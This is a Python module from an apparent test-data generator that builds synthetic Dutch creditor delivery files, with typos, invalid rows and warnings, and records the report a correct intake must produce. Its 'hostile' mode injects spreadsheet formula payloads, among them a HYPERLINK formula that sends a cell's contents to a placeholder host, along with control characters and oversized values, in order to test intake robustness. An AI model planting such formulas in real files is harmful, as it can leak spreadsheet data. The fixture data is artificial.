"""Delivery rows with their noise, and the delivery report a correct intake must produce.

One :class:`DeliveryStream` per creditor and month writes the file and keeps
the expected report (``ground_truth/deliveries.json``) as it goes. Noise:

- ``none``: real rows only, canonical dialect.
- ``realistic``: the creditor's dialect; typos in some surnames (the same
  customer always has the same typo); a few warnings (an e-mail address or
  phone number that is not one, a house letter the register does not know
  at an address that is alone on its number); and a few deliberately
  invalid rows. Invalid rows are *extra* rows of fictitious customers (never
  a real customer's arrear), each with exactly one defect, so every count in
  the report is unambiguous and no real arrear is lost to noise.
- ``hostile``: as realistic, plus formula injection (``=HYPERLINK(…)``) in
  surnames, control characters in street or place names and 10,000-character
  values in an unknown free-text column — all in rows that stay valid — and
  malformed extra files (see ``hostile.py``).
"""

from __future__ import annotations

import datetime as dt
import hashlib
import random
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path

from . import people
from .addresses import UNUSED_PC4, Address
from .dialects import (
    FREE_TEXT_FIELD,
    UNKNOWN_FIELD,
    Dialect,
    format_amount,
    format_date,
    format_impossible_date,
    is_unknown_field,
    render,
    typo,
)
from .ids import invalid_bsn
from .writers import DeliveryFile

# Rates per real row (realistic and hostile noise).
GHOST_RATE = 0.004
MIN_GHOSTS = 3  # per file, when the file is big enough to carry them
GHOST_SHARE_CAP = 3  # at most one invalid row per three real rows (a quarter of the file)
EMAIL_WARNING_RATE = 0.004
PHONE_WARNING_RATE = 0.004
APPROXIMATE_ADDRESS_RATE = 0.003
HOSTILE_RATE = 0.002
LIST_LIMIT = 10_000  # longest list of rows per file in deliveries.json

# Invalid-row codes (spec 1.6) and how often each is drawn.
INVALID_CODES = (
    ("VERPLICHT_VELD_LEEG", 3),
    ("POSTCODE_ONGELDIG", 2),
    ("HUISNUMMER_ONGELDIG", 1),
    ("DATUM_ONGELDIG", 2),
    ("GEBOORTEDATUM_ONWAARSCHIJNLIJK", 1),
    ("ONTSTAANSDATUM_NA_PEILDATUM", 1),
    ("BEDRAG_ONGELDIG", 2),
    ("BSN_ONGELDIG", 1),
    ("DUBBEL_IN_LEVERING", 1),
    ("ADRES_ONBEKEND", 2),
)
FORMULAS = (
    '=HYPERLINK("http://voorbeeld.invalid/?d="&A2;"Jansen")',
    "=1+1",
    "+31612345678",
    "@SUM(1;1)",
    "-2+3",
)


def stable_fraction(*parts: object) -> float:
    """A number in [0, 1) fixed by ``parts`` (the same customer gets the same noise every month)."""
    digest = hashlib.blake2b(":".join(map(str, parts)).encode(), digest_size=8).digest()
    return int.from_bytes(digest, "big") / 2**64


@dataclass
class Ghost:
    """Where a fictitious customer can be put: a real address in a covenant municipality."""

    address: Address
    woonplaats: str
    municipality: str


@dataclass
class DeliveryStream:
    """One delivery file and the report a correct intake must produce for it."""

    file: DeliveryFile
    creditor: str
    peildatum: dt.date
    soort: str
    noise: str
    seed: int
    relative_path: str
    covenant_municipalities: frozenset[str]
    rng: random.Random
    rows: int = 0
    real_rows: int = 0
    ghost_rows: int = 0
    outside: int = 0
    outside_per_municipality: Counter = field(default_factory=Counter)
    routed: Counter = field(default_factory=Counter)
    rejected: Counter = field(default_factory=Counter)
    rejected_rows: list = field(default_factory=list)
    warnings: Counter = field(default_factory=Counter)
    warning_rows: list = field(default_factory=list)
    notable: Counter = field(default_factory=Counter)
    notable_rows: list = field(default_factory=list)
    statuses: Counter = field(default_factory=Counter)
    reservoir: list = field(default_factory=list)
    seen_candidates: int = 0
    hostile_done: set = field(default_factory=set)

    @property
    def dialect(self) -> Dialect:
        return self.file.dialect

    # -- real rows ------------------------------------------------------------

    def add_real(
        self,
        record: dict,
        municipality: str,
        in_covenant: bool,
        address: Address,
        alone_on_number: bool,
        woonplaats: str,
        ghost_factory,
    ) -> None:
        overrides: dict = {}
        if self.noise != "none":
            self._noise(record, overrides, alone_on_number)
        if self.noise == "hostile":
            self._hostile(record, overrides)
        self._emit(record, overrides)
        self.real_rows += 1
        if record.get("status"):
            self.statuses[record["status"]] += 1
        if in_covenant:
            self.routed[municipality] += 1
            candidate = Ghost(address, woonplaats, municipality)
            self._remember(candidate)
            if self.noise != "none" and self.rng.random() < GHOST_RATE:
                self.add_ghost(ghost_factory, candidate)
        else:
            self.outside += 1
            self.outside_per_municipality[municipality] += 1

    def _noise(self, record: dict, overrides: dict, alone_on_number: bool) -> None:
        d = self.dialect
        key = (self.seed, self.creditor, record["klantnummer"])
        u = stable_fraction(*key, "typo")
        if u < d.typo_rate and len(record["achternaam"]) >= 4:
            r = random.Random(stable_fraction(*key, "typo-form"))
            changed = typo(r, record["achternaam"])
            if changed != record["achternaam"]:
                record["achternaam"] = changed
                self._note("typefout", record["klantnummer"])
        u = stable_fraction(*key, "warning")
        if d.has("email") and u < EMAIL_WARNING_RATE and record.get("email"):
            overrides["email"] = record["email"].split("@")[0] + "@"
            self._warn("EMAIL_ONGELDIG", "email", record["klantnummer"])
        elif (
            d.has("telefoonnummer")
            and u < EMAIL_WARNING_RATE + PHONE_WARNING_RATE
            and record.get("telefoonnummer")
        ):
            overrides["telefoonnummer"] = "12345"
            self._warn("TELEFOON_ONGELDIG", "telefoonnummer", record["klantnummer"])
        elif (
            alone_on_number
            and not record["huisletter"]
            and not record["huisnummertoevoeging"]
            and stable_fraction(*key, "approximate") < APPROXIMATE_ADDRESS_RATE
        ):
            record["huisletter"] = "Z"  # no address of this generator has a letter Z
            self._warn("ADRES_BIJ_BENADERING", "huisnummer", record["klantnummer"])

    def _hostile(self, record: dict, overrides: dict) -> None:
        d = self.dialect
        u = self.rng.random()
        kinds = [
            k for k in ("formule", "stuurtekens", "lange_waarde") if k not in self.hostile_done
        ]
        forced = kinds[0] if kinds else None
        if u < HOSTILE_RATE or forced == "formule":
            formula = FORMULAS[self.rng.randrange(len(FORMULAS))]
            record["achternaam"] = formula
            record["tussenvoegsel"] = ""
            self.hostile_done.add("formule")
            self._note("formule", record["klantnummer"])
        elif u < 2 * HOSTILE_RATE or forced == "stuurtekens":
            target = (
                "straatnaam"
                if d.has("straatnaam")
                else "woonplaats"
                if d.has("woonplaats")
                else "achternaam"
            )
            value = record.get(target) or "Onbekend"
            cut = len(value) // 2
            record[target] = (
                value[:cut] + self.rng.choice(("\x07", "\x1b", "\x7f", "\x01")) + value[cut:]
            )
            self.hostile_done.add("stuurtekens")
            self._note("stuurtekens", record["klantnummer"])
        elif (u < 3 * HOSTILE_RATE or forced == "lange_waarde") and d.has(FREE_TEXT_FIELD):
            record[FREE_TEXT_FIELD] = ("Betalingsregeling besproken. " * 400)[:10_000]
            self.hostile_done.add("lange_waarde")
            self._note("lange_waarde", record["klantnummer"])

    # -- deliberately invalid rows ----------------------------------------------

    def _remember(self, candidate: Ghost) -> None:
        """Keep a small random sample of addresses for ghost rows added when the file closes."""
        self.seen_candidates += 1
        if len(self.reservoir) < 16:
            self.reservoir.append(candidate)
        else:
            j = self.rng.randrange(self.seen_candidates)
            if j < 16:
                self.reservoir[j] = candidate

    def _ghost_allowed(self, rows: int) -> bool:
        return self.ghost_rows + rows <= self.real_rows // GHOST_SHARE_CAP

    def add_ghost(self, ghost_factory, candidate: Ghost) -> None:
        """Add one (or, for a duplicate, two) invalid rows of a fictitious customer."""
        codes = [c for c in INVALID_CODES if c[0] != "BSN_ONGELDIG" or self.dialect.has("bsn")]
        code = self.rng.choices([c for c, _ in codes], [w for _, w in codes])[0]
        if not self._ghost_allowed(2 if code == "DUBBEL_IN_LEVERING" else 1):
            return
        record = ghost_factory(candidate, self)
        overrides, veld = self._defect(code, record)
        if code == "DUBBEL_IN_LEVERING":
            for _ in range(2):
                self._emit(record, overrides)
                self._reject(code, veld, record["klantnummer"])
                self.ghost_rows += 1
                record = dict(record, bedrag_achterstand=record["bedrag_achterstand"] + 1000)
            return
        self._emit(record, overrides)
        self._reject(code, veld, record["klantnummer"])
        self.ghost_rows += 1

    def _defect(self, code: str, record: dict) -> tuple[dict, str]:
        d = self.dialect
        r = self.rng
        if code == "VERPLICHT_VELD_LEEG":
            veld = r.choice(("achternaam", "postcode", "geboortedatum", "ontstaansdatum"))
            if veld == "achternaam":
                record["tussenvoegsel"] = ""
            return {veld: ""}, veld
        if code == "POSTCODE_ONGELDIG":
            pc = record["postcode"]
            bad = r.choice(
                (f"0{pc[1:4]}{pc[4:]}", f"{pc[:4]}SS", f"{pc[:3]}{pc[4:]}", f"{pc[:4]}SA")
            )
            return {"postcode": bad}, "postcode"
        if code == "HUISNUMMER_ONGELDIG":
            record["huisletter"] = ""
            record["huisnummertoevoeging"] = ""
            return {"huisnummer": "0"}, "huisnummer"
        if code == "DATUM_ONGELDIG":
            veld = r.choice(("geboortedatum", "ontstaansdatum"))
            year = record[veld].year
            return {
                veld: format_impossible_date(d.date_format if not d.excel_dates else "dmy", year)
            }, veld
        if code == "GEBOORTEDATUM_ONWAARSCHIJNLIJK":
            future = r.random() < 0.5
            day = (
                self.peildatum + dt.timedelta(days=r.randint(30, 400))
                if future
                else dt.date(r.randint(1850, 1890), 5, 12)
            )
            return self._date_value("geboortedatum", day, record), "geboortedatum"
        if code == "ONTSTAANSDATUM_NA_PEILDATUM":
            day = self.peildatum + dt.timedelta(days=r.randint(1, 25))
            return self._date_value("ontstaansdatum", day, record), "ontstaansdatum"
        if code == "BEDRAG_ONGELDIG":
            cents = -r.randint(100, 50_000) if r.random() < 0.7 else 0
            numeric = (d.format == "xlsx" and d.excel_numbers) or (
                d.format == "json" and d.json_numbers
            )
            value = (
                cents / 100 if numeric else format_amount(cents, d.decimal, d.thousands, d.currency)
            )
            return {"bedrag_achterstand": value}, "bedrag_achterstand"
        if code == "BSN_ONGELDIG":
            return {"bsn": invalid_bsn(r)}, "bsn"
        if code == "DUBBEL_IN_LEVERING":
            return {}, "klantnummer"
        if code == "ADRES_ONBEKEND":
            pc4 = r.choice(UNUSED_PC4)
            record["postcode"] = (
                f"{pc4}{r.choice('ABCDEFGHJKLMNPRTVWXZ')}{r.choice('ABCDEFGHJKLMNPRTVWXZ')}"
            )
            return {}, "postcode"
        raise ValueError(code)

    def _date_value(self, veld: str, day: dt.date, record: dict) -> dict:
        """Set a date; as text where an Excel date cell cannot hold it (before 1900)."""
        record[veld] = day
        if self.dialect.excel_dates and self.dialect.format == "xlsx":
            return {veld: format_date(day, "dmy")}
        return {}

    # -- bookkeeping ------------------------------------------------------------------

    def _emit(self, record: dict, overrides: dict) -> None:
        self.file.write(render(self.dialect, record, overrides))
        self.rows += 1

    def _reject(self, code: str, veld: str, klantnummer: str) -> None:
        self.rejected[code] += 1
        if len(self.rejected_rows) < LIST_LIMIT:
            self.rejected_rows.append(
                {"rij": self.rows, "klantnummer": klantnummer, "veld": veld, "code": code}
            )

    def _warn(self, code: str, veld: str, klantnummer: str) -> None:
        self.warnings[code] += 1
        if len(self.warning_rows) < LIST_LIMIT:
            self.warning_rows.append(
                {"rij": self.rows + 1, "klantnummer": klantnummer, "veld": veld, "code": code}
            )

    def _note(self, kind: str, klantnummer: str) -> None:
        self.notable[kind] += 1
        if len(self.notable_rows) < LIST_LIMIT:
            self.notable_rows.append(
                {"rij": self.rows + 1, "klantnummer": klantnummer, "soort": kind}
            )

    def close(self, ghost_factory) -> None:
        if self.noise != "none":
            attempts = 0
            while self.ghost_rows < MIN_GHOSTS and self.reservoir and attempts < 20:
                attempts += 1
                before = self.ghost_rows
                self.add_ghost(
                    ghost_factory, self.reservoir[self.rng.randrange(len(self.reservoir))]
                )
                if self.ghost_rows == before and not self._ghost_allowed(1):
                    break
        self.file.close()

    def report(self) -> dict:
        accepted = sum(self.routed.values())
        return {
            "bestand": self.relative_path,
            "schuldeiser": self.creditor,
            "peildatum": self.peildatum.isoformat(),
            "soort": self.soort,
            "formaat": self.dialect.format,
            "rijen": self.rows,
            "echte_rijen": self.real_rows,
            "afgewezen_totaal": sum(self.rejected.values()),
            "afgewezen": dict(sorted(self.rejected.items())),
            "afgewezen_rijen": self.rejected_rows,
            "buiten_convenant": self.outside,
            "buiten_convenant_per_gemeente": dict(sorted(self.outside_per_municipality.items())),
            "verwerkt": accepted,
            "per_gemeente": dict(sorted(self.routed.items())),
            "waarschuwingen": dict(sorted(self.warnings.items())),
            "waarschuwing_rijen": self.warning_rows,
            "opvallend": dict(sorted(self.notable.items())),
            "opvallende_rijen": self.notable_rows,
            "mutaties_in_bestand": dict(sorted(self.statuses.items())) if self.statuses else None,
            "onbekende_kolommen": [h for h, f in self.dialect.columns if is_unknown_field(f)],
            "verwachte_weigering": None,
        }


def make_record(
    *,
    person: people.Person,
    address: Address,
    woonplaats: str,
    klantnummer: str,
    contractnummer: str,
    amount: int,
    start: dt.date,
    terms: int,
    crisis: str,
    signaal_id: str,
    status: str | None,
    warm: bool,
) -> dict:
    """The canonical values of one delivery row."""
    return {
        "klantnummer": klantnummer,
        "contractnummer": contractnummer,
        "voornamen": person.voornamen,
        "tussenvoegsel": person.tussenvoegsel,
        "achternaam": person.achternaam,
        "geboortedatum": person.geboortedatum,
        "geslacht": person.geslacht,
        "straatnaam": address.street,
        "huisnummer": address.number,
        "huisletter": address.letter,
        "huisnummertoevoeging": address.addition,
        "postcode": address.postcode,
        "woonplaats": woonplaats,
        "bedrag_achterstand": amount,
        "ontstaansdatum": start,
        "aantal_termijnen": terms,
        "crisissignaal": bool(crisis),
        "crisis_reden": crisis,
        "warme_overdracht": bool(crisis) and warm,
        "telefoonnummer": person.telefoon,
        "email": person.email,
        "bsn": person.bsn,
        "signaal_id": signaal_id,
        "status": status,
        UNKNOWN_FIELD: "",
        FREE_TEXT_FIELD: "",
    }


def unknown_column_value(dialect: Dialect, municipality_name: str) -> str:
    """What a creditor writes in its own extra column (a region name)."""
    return f"Regio {municipality_name}" if dialect.has(UNKNOWN_FIELD) else ""


def relative(path: Path, root: Path) -> str:
    return path.relative_to(root).as_posix()


__all__ = [
    "DeliveryStream",
    "Ghost",
    "make_record",
    "stable_fraction",
    "format_date",
]
